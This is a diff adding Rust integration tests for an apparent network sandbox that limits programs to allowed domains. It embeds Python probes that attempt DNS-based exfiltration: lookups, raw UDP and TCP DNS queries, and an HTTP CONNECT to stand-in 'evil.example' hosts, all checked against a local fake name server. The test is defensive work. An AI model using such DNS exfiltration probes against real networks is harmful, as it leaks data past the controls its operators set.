@@ -488,6 +488,145 @@ print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 17)))
     assert!(udp.recv(&mut [0; 9]).is_err(), "nothing came out");
 }
 
+/// What a program asks name servers, in every way that it has. The addresses are those of the test's server.
+const TELL: &str = r#"
+import os, sys
+for text in 'secret.evil.example', 'other.secret.listed.example':
+    try: socket.getaddrinfo(text, 80)
+    except OSError: pass
+for kind in 1, 16, 255:
+    for connect in True, False:
+        try: udp(question(b'raw%d.evil.example' % kind, kind), ('127.0.0.1', 53), connect=connect)
+        except OSError: pass
+try:
+    s = socket.create_connection(('127.0.0.1', 53)); s.sendall(b'\0\x22' + question(b'tcp.evil.example')[:34]); s.close()
+except OSError: pass
+if 'HTTP_PROXY' in os.environ:
+    s = socket.create_connection(('127.0.0.1', int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1])))
+    s.sendall(b'CONNECT asked.evil.example:443 HTTP/1.1\r\n\r\n'); s.recv(99)
+# Last, so that what came before has arrived by then.
+s = socket.create_connection(('listed.example', 80)); s.sendall(b'x'); print(s.recv(9).decode())
+"#;
+
+/// A name server that writes down the names that it is asked for, and has one address for most of them; and a server
+/// at that address. Prints their numbers once they are there.
+const SERVE: &str = r#"
+import os, socket, struct, sys
+log = open(sys.argv[1], 'a', buffering=1)
+d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d.bind(('127.0.0.1', 53))
+l = socket.create_server(('192.0.2.80', 80))
+one = os.fork()
+if one == 0:
+    while True:
+        c, _ = l.accept()
+        if c.recv(9): c.sendall(b'server')
+        c.close()
+other = os.fork()
+if other == 0:
+    while True:
+        q, who = d.recvfrom(999)
+        at, labels = 12, []
+        while q[at]: labels.append(q[at + 1:at + 1 + q[at]].decode()); at += 1 + q[at]
+        log.write('.'.join(labels).lower() + '\n')
+        kind = q[at + 1:at + 3]
+        end = at + 5
+        searched = labels[-2:] == ['corp', 'example']
+        found = kind == b'\0\1' and not searched
+        answer = q[:2] + bytes([0x81, 0x83 if searched else 0x80, 0, 1]) + struct.pack('!3H', found, 0, 0) + q[12:end]
+        if found: answer += b'\xc0\x0c\0\1\0\1\0\0\0\0\0\4' + socket.inet_aton('192.0.2.80')
+        d.sendto(answer, who)
+print(one, other)
+"#;
+
+/// Exfiltration by questions to name servers: the host's hears of a listed name, once it is connected to, and of no
+/// other one. As the control, the same without a sandbox tells it everything.
+#[test]
+fn no_question_leaves_but_about_what_is_connected_to() {
+    let needs = [PYTHON, "userns", "cmd:unshare", "cmd:ip"];
+    if !names("exfiltration by names", &needs) {
+        return;
+    }
+    let bed = Bed::new(&[]);
+    let policy = bed.policy(&policy(json!({"allowedDomains": ["listed.example"]})));
+    let write = |name: &str, text: &str| {
+        std::fs::write(bed.root().join("out").join(name), text).expect("write");
+    };
+    write("serve.py", SERVE);
+    write("tell.py", &format!("{ASK}{TELL}"));
+    write("resolv.conf", "nameserver 127.0.0.1\nsearch corp.example\noptions ndots:3\n");
+    let script = bed.fill(&format!(
+        "ip link set lo up && ip address add 192.0.2.80/32 dev lo &&
+mount --bind {{out}}/resolv.conf /etc/resolv.conf && {PYTHON} {{out}}/serve.py {{out}}/log > {{out}}/pids &&
+\"$@\"; kill $(cat {{out}}/pids)"
+    ));
+    let run = |words: &[&str]| -> (Run, Vec<String>) {
+        write("log", "");
+        let mut command = bed.command("/usr/bin/unshare".as_ref());
+        let shell = ["-Urnm", "sh", "-c", &script, "sh"];
+        command.args(shell).args(words.iter().map(|word| bed.fill(word)));
+        let run = finish(command, &bed.root().join("traps"));
+        let log = std::fs::read_to_string(bed.root().join("out/log")).expect("the log");
+        (run, log.lines().map(str::to_owned).collect())
+    };
+    let tell = [PYTHON, "{out}/tell.py"];
+    let (bare, heard) = run(&tell);
+    assert_eq!(bare.lines, ["server"], "{bare:?}");
+    for name in ["secret.evil.example", "raw16.evil.example", "listed.example"] {
+        assert!(heard.iter().any(|line| line == name), "the control: {name}: {heard:?}");
+    }
+    let policy = policy.display().to_string();
+    let traps = bed.fill("3>{root}/traps");
+    let probe = support::probe().display().to_string();
+    let sandbox = [
+        &probe,
+        "@spawn",
+        &traps,
+        "--",
+        support::LANDSTRIP,
+        "run",
+        "--trap-fd",
+        "3",
+        "-p",
+        &policy,
+        "--",
+    ];
+    let (run, heard) = run(&[&sandbox[..], &tell].concat());
+    assert_eq!(run.lines, ["server"], "{run:?}");
+    assert_eq!(heard, ["listed.example"; 2], "of both kinds: {run:?}");
+    let told: Vec<String> = told(&run).into_iter().map(|[_, target, _]| target).collect();
+    for name in ["secret.evil.example", "raw16.evil.example", "asked.evil.example:443"] {
+        assert!(told.iter().any(|target| target == name), "{name}: {told:?}");
+    }
+    // What a resolver makes of a listed name is no refusal.
+    assert!(!told.iter().any(|target| target.starts_with("listed.example")), "{told:?}");
+}
+
+/// Many at once, each by a thread of its own: what is said of a connection is there when it arrives.
+#[test]
+fn many_connections_at_once_are_known_to_the_proxy() {
+    if !names("many connections", &[PYTHON]) {
+        return;
+    }
+    let (url, _asked) = upstream(server());
+    let script = "
+import socket, threading
+out, ready = [], threading.Barrier(60)
+def one(i):
+    ready.wait()
+    for j in range(5):
+        try:
+            s = socket.create_connection(('h%d.listed.example' % i, 80), 60)
+            s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); out.append(s.recv(4))
+        except OSError as e: out.append(e.errno)
+ts = [threading.Thread(target=one, args=(i,)) for i in range(60)]
+for t in ts: t.start()
+for t in ts: t.join()
+print(len(out), set(out))
+";
+    let run = python(&url, json!({"allowedDomains": ["*.listed.example"]}), script);
+    assert_eq!(run.lines, ["300 {b'HTTP'}"], "{run:?}");
+}
+
 /// A socket that is bound by the program itself, to every address, is the run's too.
 #[test]
 fn a_bound_socket_is_known_to_the_proxy() {
